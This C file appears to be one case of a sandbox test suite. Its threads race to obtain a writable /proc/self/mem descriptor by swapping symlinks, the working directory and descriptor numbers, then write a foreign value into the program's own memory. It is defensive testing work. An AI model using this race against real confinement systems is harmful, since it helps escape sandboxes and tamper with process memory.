/*
 * M7: threads race for a descriptor of /proc/self/mem. Some open names that lead there at one
 * moment and elsewhere at the next; some change what the names, the working directory and low
 * descriptors lead to; the others try each number that an open may give.
 */
#include "attack.h"
#include <linux/magic.h>
#include <pthread.h>
#include <sys/vfs.h>

#define FOLDER                                                                                     \
    60 /* a number that is /proc/self at one moment, and an ordinary folder at the next */
#define LAST_NUMBER 40

static volatile int done;
static uint64_t *target;
static int memory, memory_folder, folder, file, start; /* O_PATH, out of the way of the rest */

/* ---------------------------------------------------------------- opens */

static void *open_swapped(void *argument)
{
    static const char *const paths[] = {"swapped", "../swapped", "/proc/self/cwd/swapped", "mem",
                                        "sub/mem", "../sub/mem", "/proc/self/cwd/mem",     "./mem"};
    char by_number[64];
    for (unsigned i = (unsigned)(uintptr_t)argument; !done; i++) {
        int fd = open(paths[i % 8], O_RDWR);
        if (fd >= 0) {
            close(fd);
        }
        fd = openat(FOLDER, "mem", O_RDWR);
        if (fd >= 0) {
            close(fd);
        }
        snprintf(by_number, sizeof by_number, "/proc/self/fd/%u", i % 2 ? FOLDER + 1 : 3 + i % 7);
        fd = open(by_number, O_RDWR);
        if (fd >= 0) {
            close(fd);
        }
    }
    return NULL;
}

static void *open_memory(void *argument)
{
    while (!done) {
        int fd = open("/proc/thread-self/mem", O_RDWR);
        if (fd >= 0) {
            close(fd);
        }
        fd = openat(memory_folder, "mem", O_RDWR);
        if (fd >= 0) {
            close(fd);
        }
    }
    return argument;
}

/* ---------------------------------------------------------------- swaps */

/* In the folder where the program began, wherever the process is by now. */
static void put_link(const char *name, const char *leads_to)
{
    unlinkat(start, "next", 0);
    MUST(symlinkat(leads_to, start, "next"));
    MUST(renameat(start, "next", start, name));
}

static void *swap_names(void *argument)
{
    for (unsigned i = 0; !done; i++) {
        put_link("swapped", i % 2 ? "/proc/self/mem" : "folder/mem");
        put_link("sub", i % 2 ? "/proc/self" : "folder");
    }
    return argument;
}

static void *swap_numbers(void *argument)
{
    for (int i = 0; !done; i++) {
        dup2(i % 2 ? memory_folder : folder, FOLDER);
        dup2(i % 2 ? memory : file, FOLDER + 1);
        dup2(i % 2 ? memory : memory_folder, 3 + i % 11);
        close(3 + i % 7);
        MUST(fchdir(i % 3 == 0 ? memory_folder : i % 3 == 1 ? folder : start));
    }
    return argument;
}

/* ---------------------------------------------------------------- uses */

static bool is_memory(int fd)
{
    struct stat status;
    struct statfs system;
    return fstat(fd, &status) == 0 && status.st_mode == (S_IFREG | 0600) &&
           fstatfs(fd, &system) == 0 && system.f_type == PROC_SUPER_MAGIC;
}

static void *use_numbers(void *argument)
{
    static const uint64_t foreign = FOREIGN_VALUE;
    while (!done) {
        for (int fd = 3; fd < LAST_NUMBER && !done; fd++) {
            /* Only there does a negative position exist; a page of the program tells that it
             * writes. */
            if (lseek(fd, -65536L, SEEK_SET) == -65536L &&
                pwrite(fd, &foreign, sizeof foreign, (off_t)target) == sizeof foreign &&
                is_memory(fd)) {
                if (__atomic_exchange_n(&done, 1, __ATOMIC_RELAXED) == 0) {
                    reached(); /* one of the threads says so */
                }
            }
        }
    }
    return argument;
}

int main(void)
{
    void *(*const roles[])(void *) = {open_swapped, open_swapped, open_memory, swap_names,
                                      swap_numbers, use_numbers,  use_numbers};
    const size_t count = sizeof roles / sizeof roles[0];
    pthread_t threads[16];
    bool until_won = must_win();
    target = target_page();
    mkdir("folder", 0700); /* it may be there from a run before */
    make_file("folder/mem", "", 0, 0600);
    start = MUST(fcntl(MUST(open(".", O_PATH)), F_DUPFD, 70));
    memory = MUST(fcntl(MUST(open("/proc/self/mem", O_PATH)), F_DUPFD, 70));
    memory_folder = MUST(fcntl(MUST(open("/proc/self", O_PATH)), F_DUPFD, 70));
    folder = MUST(fcntl(MUST(open("folder", O_PATH)), F_DUPFD, 70));
    file = MUST(fcntl(MUST(open("folder/mem", O_PATH)), F_DUPFD, 70));
    for (size_t i = 0; i < count; i++) {
        CHECK_EQ(pthread_create(&threads[i], NULL, roles[i], (void *)(uintptr_t)i), 0, "thread");
    }
    const long long end = monotonic_ns() + long_beside_calls_ms(1000) * 1000000;
    while (!done && (until_won || monotonic_ns() < end)) {
        sleep_ms(50);
    }
    done = 1;
    for (size_t i = 0; i < count; i++) {
        pthread_join(threads[i], NULL);
    }
    not_reached("none-seen");
}
